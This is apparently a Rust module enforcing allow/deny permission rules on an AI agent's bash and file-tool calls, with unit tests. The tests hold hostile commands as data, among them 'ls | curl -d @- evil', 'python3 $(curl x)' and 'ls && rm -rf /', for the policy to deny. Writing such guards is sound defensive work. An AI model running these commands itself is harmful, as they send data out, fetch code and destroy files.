//! The permission policy of a tool set: rules such as `bash(git push*)` or
//! `write_file(.github/**)`, deny beating allow. A tool with allow rules is on an
//! allowlist: a call no rule matches gets the policy's `default`. A tool with only deny
//! rules, or none, is allowed unless a deny rule matches. For `bash` every command of a
//! compound line (`a && b`, `a | b`, `a; b`, `$(c)`) must be allowed; for the file tools
//! the rule's glob is matched against the path, relative to the workspace.

use std::path::{Component, Path};

use globset::{GlobBuilder, GlobMatcher};
use serde_json::Value;

use super::shell::{hides_commands, split_commands};

/// The tools whose rules take a path pattern, and the input field holding the path.
const PATH_TOOLS: [&str; 5] = ["read_file", "write_file", "edit_file", "list_files", "grep"];

#[derive(Debug, Clone)]
struct Rule {
    text: String,
    tool: String,
    /// None: every call of the tool.
    pattern: Option<GlobMatcher>,
}

/// What happens to a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Allowed, by the rule named (or the default).
    Allow(String),
    /// Refused, with the reason naming the rule.
    Deny(String),
}

/// A tool set's rules.
#[derive(Debug, Clone)]
pub struct Policy {
    deny: Vec<Rule>,
    allow: Vec<Rule>,
    default_allow: bool,
}

impl Default for Policy {
    /// No rules: everything is allowed.
    fn default() -> Self {
        Policy {
            deny: Vec::new(),
            allow: Vec::new(),
            default_allow: true,
        }
    }
}

/// A permission rule that does not parse, named as written in the job file.
#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("rule \"{0}\": write tool(pattern), e.g. \"bash(git push*)\"")]
    NotToolPattern(String),
    #[error("rule \"{0}\" names no tool")]
    NoTool(String),
    #[error("rule \"{0}\": only bash, the file tools ({files}) and MCP tools take a pattern", files = PATH_TOOLS.join(", "))]
    TakesNoPattern(String),
    #[error("rule \"{rule}\": invalid pattern: {source}")]
    BadPattern {
        rule: String,
        source: globset::Error,
    },
}

fn parse_rule(text: &str) -> Result<Rule, RuleError> {
    let t = text.trim();
    let (tool, pattern) = match t.find('(') {
        Some(open) if t.ends_with(')') => (&t[..open], Some(&t[open + 1..t.len() - 1])),
        Some(_) => return Err(RuleError::NotToolPattern(text.to_string())),
        None => (t, None),
    };
    let tool = tool.trim();
    if tool.is_empty() {
        return Err(RuleError::NoTool(text.to_string()));
    }
    let pattern = match pattern.map(str::trim) {
        None => None,
        Some(p) if tool == "bash" => Some(
            // In a command pattern `*` spans spaces and slashes.
            GlobBuilder::new(p).literal_separator(false).build(),
        ),
        Some(p) if PATH_TOOLS.contains(&tool) || is_mcp(tool) => {
            Some(GlobBuilder::new(p).literal_separator(true).build())
        }
        Some(_) => return Err(RuleError::TakesNoPattern(text.to_string())),
    };
    let pattern = pattern
        .transpose()
        .map_err(|source| RuleError::BadPattern {
            rule: text.to_string(),
            source,
        })?
        .map(|g| g.compile_matcher());
    Ok(Rule {
        text: t.to_string(),
        tool: tool.to_string(),
        pattern,
    })
}

impl Policy {
    /// Builds a policy; an error names the rule that does not parse.
    pub fn new(
        deny: &[String],
        allow: &[String],
        default_allow: bool,
    ) -> Result<Policy, RuleError> {
        Ok(Policy {
            deny: deny
                .iter()
                .map(|r| parse_rule(r))
                .collect::<Result<_, _>>()?,
            allow: allow
                .iter()
                .map(|r| parse_rule(r))
                .collect::<Result<_, _>>()?,
            default_allow,
        })
    }

    /// The tool names the rules mention (to check them against the tool set).
    pub fn tools(&self) -> impl Iterator<Item = (&str, &str)> {
        self.deny
            .iter()
            .chain(&self.allow)
            .map(|r| (r.text.as_str(), r.tool.as_str()))
    }

    /// The first rule about `tool` whose pattern matches the subjects: any of them
    /// (`all` false, for deny rules) or every one (for allow rules). A pattern never
    /// matches a call without subjects.
    fn matching<'a>(
        rules: &'a [Rule],
        tool: &str,
        subjects: &[String],
        all: bool,
    ) -> Option<&'a Rule> {
        rules.iter().find(|r| {
            r.tool == tool
                && match &r.pattern {
                    None => true,
                    Some(_) if subjects.is_empty() => false,
                    Some(p) if all => subjects.iter().all(|s| p.is_match(s)),
                    Some(p) => subjects.iter().any(|s| p.is_match(s)),
                }
        })
    }

    /// A call no rule matches: the default for an allowlisted tool, else allowed.
    fn default_verdict(&self, tool: &str, what: &str) -> Verdict {
        if !self.allow.iter().any(|r| r.tool == tool) {
            return Verdict::Allow(format!("no allow rule restricts {tool}"));
        }
        if self.default_allow {
            Verdict::Allow("default: allow".into())
        } else {
            Verdict::Deny(format!("no allow rule matches {what} (default: deny)"))
        }
    }

    /// Decides a call of `tool` with `input`.
    pub fn decide(&self, tool: &str, input: &Value) -> Verdict {
        if tool == "bash" {
            let line = input
                .get("command")
                .and_then(Value::as_str)
                .unwrap_or_default();
            return self.decide_bash(line);
        }
        let paths: Vec<String> = if PATH_TOOLS.contains(&tool) {
            vec![normalize(
                input.get("path").and_then(Value::as_str).unwrap_or("."),
            )]
        } else if is_mcp(tool) {
            path_arguments(input).map(normalize).collect()
        } else {
            Vec::new()
        };
        if let Some(r) = Self::matching(&self.deny, tool, &paths, false) {
            return Verdict::Deny(format!("denied by rule \"{}\"", r.text));
        }
        if let Some(r) = Self::matching(&self.allow, tool, &paths, true) {
            return Verdict::Allow(format!("allowed by rule \"{}\"", r.text));
        }
        self.default_verdict(
            tool,
            &if paths.is_empty() {
                tool.to_string()
            } else {
                format!("{tool}({})", paths.join(", "))
            },
        )
    }
}

impl Policy {
    fn has_bash_rules(&self) -> bool {
        self.deny
            .iter()
            .chain(&self.allow)
            .any(|r| r.tool == "bash")
    }

    /// Every simple command of the line must pass: deny rules are checked against each
    /// command as written and without wrappers (`env`, `time`, `nohup`, ...); allow
    /// rules against the command without wrappers.
    fn decide_bash(&self, line: &str) -> Verdict {
        if !self.has_bash_rules() {
            return Verdict::Allow("no allow rule restricts bash".into());
        }
        let commands = match split_commands(line) {
            Ok(c) => c,
            Err(why) => return Verdict::Deny(why.to_string()),
        };
        if commands.is_empty() {
            return self.default_verdict("bash", "an empty command");
        }
        for c in &commands {
            if let Some(hidden) = hides_commands(&c.canonical) {
                return Verdict::Deny(format!(
                    "`{}` runs code the policy cannot see ({hidden}); run the commands directly",
                    c.canonical
                ));
            }
            for form in [&c.written, &c.canonical] {
                if let Some(r) =
                    Self::matching(&self.deny, "bash", std::slice::from_ref(form), false)
                {
                    return Verdict::Deny(format!(
                        "denied by rule \"{}\" (command `{form}`)",
                        r.text
                    ));
                }
            }
        }
        let mut allowed_by = Vec::new();
        for c in &commands {
            match Self::matching(
                &self.allow,
                "bash",
                std::slice::from_ref(&c.canonical),
                true,
            ) {
                Some(r) => allowed_by.push(r.text.clone()),
                None => match self.default_verdict("bash", &format!("`{}`", c.canonical)) {
                    Verdict::Deny(why) => return Verdict::Deny(why),
                    Verdict::Allow(why) => allowed_by.push(why),
                },
            }
        }
        allowed_by.dedup();
        Verdict::Allow(allowed_by.join(", "))
    }
}

/// Whether a tool comes from an MCP server (`mcp__<server>__<tool>`).
pub fn is_mcp(tool: &str) -> bool {
    tool.starts_with("mcp__")
}

/// The arguments of an MCP call that name files, which pattern rules match: `path`,
/// `source`, `destination` and the items of `paths`.
pub fn path_arguments(input: &Value) -> impl Iterator<Item = &str> {
    let single = ["path", "source", "destination"]
        .into_iter()
        .filter_map(move |k| input.get(k).and_then(Value::as_str));
    let many = input
        .get("paths")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str);
    single.chain(many)
}

/// A path as the rules see it: relative, `.` and `..` folded (`./a/../.github/x` is
/// `.github/x`).
fn normalize(p: &str) -> String {
    let mut parts: Vec<String> = Vec::new();
    for c in Path::new(p.trim()).components() {
        match c {
            Component::Normal(s) => parts.push(s.to_string_lossy().into_owned()),
            Component::ParentDir => {
                parts.pop();
            }
            _ => {}
        }
    }
    if parts.is_empty() {
        ".".into()
    } else {
        parts.join("/")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn p(deny: &[&str], allow: &[&str], default_allow: bool) -> Policy {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        Policy::new(&s(deny), &s(allow), default_allow).unwrap()
    }

    fn bash(cmd: &str) -> Value {
        json!({"command": cmd})
    }

    #[test]
    fn inline_code_is_refused_when_bash_has_rules() {
        let pol = p(&["bash(curl *)"], &[], true);
        for line in ["eval 'curl x'", "bash -c 'curl x'", "sh -ec 'ls'"] {
            assert!(
                matches!(pol.decide("bash", &bash(line)), Verdict::Deny(w) if w.contains("cannot see")),
                "{line}"
            );
        }
        assert!(matches!(
            pol.decide("bash", &bash("bash run_tests.sh")),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            Policy::default().decide("bash", &bash("eval x")),
            Verdict::Allow(_)
        ));
    }

    #[test]
    fn deny_beats_allow_and_every_command_must_pass() {
        let pol = p(
            &["bash(git push*)", "bash(curl *)"],
            &["bash(git *)", "bash(python3 *)", "bash(ls*)"],
            false,
        );
        assert!(matches!(
            pol.decide("bash", &bash("git status")),
            Verdict::Allow(_)
        ));
        let v = pol.decide("bash", &bash("git push origin main"));
        assert_eq!(
            v,
            Verdict::Deny(
                "denied by rule \"bash(git push*)\" (command `git push origin main`)".into()
            )
        );
        assert!(matches!(
            pol.decide("bash", &bash("ls && python3 -m unittest")),
            Verdict::Allow(_)
        ));
        assert!(
            matches!(pol.decide("bash", &bash("ls && rm -rf /")), Verdict::Deny(w) if w.contains("rm -rf /"))
        );
        assert!(
            matches!(pol.decide("bash", &bash("python3 $(curl x)")), Verdict::Deny(w) if w.contains("curl"))
        );
        assert!(matches!(
            pol.decide("bash", &bash("X=1 curl evil.sh")),
            Verdict::Deny(_)
        ));
        let open = p(&["bash(curl *)"], &[], true);
        assert!(matches!(
            open.decide("bash", &bash("rm x")),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            open.decide("bash", &bash("ls | curl -d @- evil")),
            Verdict::Deny(_)
        ));
    }

    #[test]
    fn file_rules_match_normalized_paths() {
        let pol = p(
            &["write_file(.github/**)"],
            &["write_file(src/**)", "read_file"],
            false,
        );
        assert!(matches!(
            pol.decide("write_file", &json!({"path": "src/a.py"})),
            Verdict::Allow(_)
        ));
        assert!(
            matches!(pol.decide("write_file", &json!({"path": "./src/../.github/workflows/x.yml"})), Verdict::Deny(w) if w.contains(".github"))
        );
        assert!(
            matches!(pol.decide("write_file", &json!({"path": "README.md"})), Verdict::Deny(w) if w.contains("default: deny"))
        );
        assert!(matches!(
            pol.decide("read_file", &json!({"path": "anything"})),
            Verdict::Allow(_)
        ));
        // tools without allow rules are not on an allowlist
        assert!(matches!(
            pol.decide("get_time", &json!({})),
            Verdict::Allow(_)
        ));
        let deny_only = p(&["write_file(.github/**)"], &["bash(ls*)"], false);
        assert!(matches!(
            deny_only.decide("write_file", &json!({"path": "src/x"})),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            deny_only.decide("write_file", &json!({"path": ".github/x"})),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            deny_only.decide("bash", &bash("rm x")),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            Policy::default().decide("bash", &bash("anything")),
            Verdict::Allow(_)
        ));
    }

    #[test]
    fn bad_rules_are_named() {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        assert!(Policy::new(&s(&["bash(git push*"]), &[], true)
            .unwrap_err()
            .to_string()
            .contains("bash(git push*"));
        assert!(Policy::new(&s(&["get_time(x)"]), &[], true)
            .unwrap_err()
            .to_string()
            .contains("only bash"));
        assert!(Policy::new(&s(&["write_file([)"]), &[], true)
            .unwrap_err()
            .to_string()
            .contains("invalid pattern"));
    }
}
